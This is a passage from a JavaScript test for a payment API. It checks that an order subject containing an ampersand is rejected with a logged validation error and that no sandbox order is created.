      h.order = { amount: '100.00', currency: 'THB', subject: 'Coffee & Cream', buyerId: 'u-1001' };
      const res = await h.post('/haipay/payments', { method: 'promptpay', ...BUYER }, idem());
      assert.equal(res.status, 500);
      assert.ok(h.logger.lines.some((l) => /subject must not contain/.test(l)));
      assert.equal(sandbox.orders().length, before);
    } finally {
      await h.close();
    }
  });
});
